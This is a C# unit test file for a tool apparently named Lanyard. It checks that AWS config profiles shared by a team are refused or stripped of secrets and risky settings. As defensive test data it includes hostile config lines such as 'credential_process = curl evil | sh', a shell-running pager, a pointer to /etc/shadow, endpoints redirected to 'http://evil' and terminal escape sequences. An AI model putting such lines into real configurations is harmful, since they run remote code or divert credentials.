using System.Text;
using Lanyard.Credentials;
using Lanyard.Credentials.SharedConfig;
using Lanyard.Credentials.SharedConfig.Team;

namespace Lanyard.Tests.Credentials.SharedConfig.Team;

public sealed class TeamFileTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("credential_process = curl evil | sh", "it is run as a program")]
    [InlineData("CREDENTIAL_PROCESS=x", "it is run as a program")]
    [InlineData("cli_pager = sh -c evil", "it is run as a program")]
    [InlineData("aws_access_key_id = AKIAIOSFODNN7EXAMPLE", "keys belong to one person")]
    [InlineData("aws_secret_access_key = SECRET", "it is a secret")]
    [InlineData("aws_session_token = SECRET", "it is a secret")]
    [InlineData("web_identity_token_file = /etc/shadow", "it names a file of one machine")]
    [InlineData("ca_bundle = /tmp/evil.pem", "it names a file of one machine")]
    [InlineData("endpoint_url = http://evil", "another place than AWS")]
    [InlineData("services = evil", "another place than AWS")]
    [InlineData("cli_aliases = x", "it isn't a setting that a team shares")]
    [InlineData("s3 =\n  endpoint_url = http://evil", "it isn't a setting that a team shares")]
    [InlineData("s3 =\n  credential_process = evil", "it isn't a setting that a team shares")]
    [InlineData("region = eu-west-1\n  credential_process = evil", "goes on over several lines")]
    [InlineData("region = evil.example/#", "it is no AWS Region")]
    [InlineData("sso_start_url = http://evil", "it is no https address")]
    [InlineData("sso_start_url = javascript:alert(1)", "it is no https address")]
    [InlineData("output = \e[2J", "control character")]
    [InlineData("role_arn = --password SECRET", "looks like a secret")]
    [InlineData("größe = x", "no name that SDKs know")]
    [InlineData("[profile x]", "stands there twice")]
    [InlineData("[services x]\ndynamodb =\n  endpoint_url = http://evil", "may come from a team's file")]
    [InlineData("[plugins]\nevil = evil", "may come from a team's file")]
    [InlineData("[profile \"x y\"]", "may come from a team's file")]
    [InlineData("[profile \e[2J]", "may come from a team's file")]
    [InlineData("garbage", "expected an '=' sign")]
    public void What_may_not_come_from_a_team_refuses_the_file_with_the_line(string hostile, string why)
    {
        var error = Assert.Throws<CredentialsException>(() => Read("# c\n[profile x]\n" + hostile + "\n"));
        Assert.Equal(ErrorCodes.TeamFileRefused, error.Code);
        Assert.Contains(why, error.Message, StringComparison.Ordinal);
        Assert.Matches($"^/team:{(hostile.Contains("\n  ", StringComparison.Ordinal) && hostile[0] != '[' ? 4 : 3)}: ", error.Message);
        Assert.DoesNotContain("SECRET", error.ToString(), StringComparison.Ordinal);
        Assert.DoesNotContain('\e', error.Message);
    }

    [Fact]
    public void A_file_without_end_or_that_is_none_is_refused_at_once()
    {
        Assert.Throws<CredentialsException>(() => TeamFile.Read("/dev/zero"));
        Assert.Throws<CredentialsException>(() => TeamFile.Read(_folder.Path));
        Assert.Throws<CredentialsException>(() => TeamFile.Read(_folder["missing"]));
        Assert.Throws<CredentialsException>(() => Read(string.Concat(Enumerable.Range(0, 1001).Select(i => $"[profile p{i}]\n"))));
        Assert.Throws<CredentialsException>(() => TeamFile.Parse("/team", SharedConfigText.FromBytes([0xff, 0xfe, 0x5b, 0x00])));
    }

    [Fact]
    public void Random_bytes_are_read_or_refused()
    {
        var random = new Random(12);
        byte[] likely = [.. "[profile x]\n\r =s3sso-region#\t\e\0\"'"u8, 0xff];
        for (int round = 0; round < 3000; round++)
        {
            byte[] bytes = [.. Enumerable.Range(0, random.Next(60)).Select(_ => likely[random.Next(likely.Length)])];
            try
            {
                TeamFile.Parse("/team", SharedConfigText.FromBytes([.. "[profile x]\n"u8, .. bytes]));
            }
            catch (CredentialsException e)
            {
                Assert.Equal(ErrorCodes.TeamFileRefused, e.Code);
            }
        }
    }

    [Fact]
    public void What_is_shared_can_be_taken_in_and_holds_nothing_private()
    {
        var files = Files(
            """
            [default]
            region = us-east-1
            [profile dev]
            sso_session = org
            sso_account_id = 111111111111
            sso_role_name = Developer
            region = eu-west-1
            credential_process = evil SECRET
            ca_bundle = /home/me/ca.pem
            s3 =
              addressing_style = path
              endpoint_url = http://me
            [profile prod]
            role_arn = arn:aws:iam::333333333333:role/deploy
            source_profile = ci
            mfa_serial = arn:aws:iam::111111111111:mfa/me
            [sso-session org]
            sso_start_url = https://org.awsapps.com/start
            sso_region = eu-west-1
            [sso-session other]
            sso_start_url = https://other.awsapps.com/start
            """,
            "[ci]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = SECRET\n");

        string text = TeamSharing.Write(files, ["dev", "prod", "ci"], out var leftOut);

        Assert.Equal(
            """
            # AWS profiles of a team, without secrets. To take them in: lanyard profile sync FILE

            [profile dev]
            sso_session = org
            sso_account_id = 111111111111
            sso_role_name = Developer
            region = eu-west-1
            s3 =
              addressing_style = path

            [profile prod]
            role_arn = arn:aws:iam::333333333333:role/deploy
            source_profile = ci

            [sso-session org]
            sso_start_url = https://org.awsapps.com/start
            sso_region = eu-west-1

            """,
            text);
        Assert.DoesNotContain("SECRET", string.Concat(leftOut), StringComparison.Ordinal);
        Assert.Contains("credential_process of the profile `dev` (/c/config:8): it is run as a program", leftOut);
        Assert.Contains("the profile `ci`: nothing in it can be shared", leftOut);
        Assert.Contains("the profile `ci`, which `prod` has as its source_profile: each of the team needs one of that name", leftOut);
        Assert.Equal(["dev", "prod", "org"], Read(text).Sections.Select(s => s.Name.Name));
    }

    [Fact]
    public void Taking_in_adds_and_changes_and_never_deletes_and_does_nothing_twice()
    {
        var files = Files("# mine\r\n[profile dev]\r\nregion = us-east-1 # c\r\noutput = json\r\n", "");
        var team = Read("[profile dev]\nregion = eu-west-1\n[profile prod]\nsso_session = org\ns3 =\n  addressing_style = path\n[sso-session org]\nsso_region = eu-west-1\n");
        var edit = TeamSharing.Take(files, team);
        Assert.Equal(
            "# mine\r\n[profile dev]\r\nregion = eu-west-1 # c\r\noutput = json\r\n\r\n[profile prod]\r\nsso_session = org\r\ns3 =\r\n  addressing_style = path\r\n\r\n[sso-session org]\r\nsso_region = eu-west-1\r\n",
            edit.Config.String());
        Assert.Equal(edit.Config.String(), TeamSharing.Take(Files(edit.Config.String(), ""), team).Config.String());
    }

    [Fact]
    public void What_goes_before_the_teams_word_is_said()
    {
        var files = Files("[profile dev]\n", "[dev]\nregion = us-east-1\naws_access_key_id = AKIA1\n");
        var edit = TeamSharing.Take(files, Read("[profile dev]\nregion = eu-west-1\nsource_profile = gone\n"));
        Assert.Equal(
            [
                "`dev` has an access key of its own (/c/credentials:3), which may go before what the file says",
                "region of `dev` stands in /c/credentials:2 too, which goes before the config file",
                "`dev` needs a profile `gone` as its source_profile, and there is none yet",
            ],
            edit.Notes);
        Assert.Equal(files.Credentials.Text.String(), edit.Credentials.String());
    }

    private static SharedConfigSnapshot Files(string config, string credentials) => new(Text.Config(config), Text.Credentials(credentials));

    private static TeamFile Read(string content) => TeamFile.Parse("/team", SharedConfigText.FromBytes(Encoding.UTF8.GetBytes(content)));
}
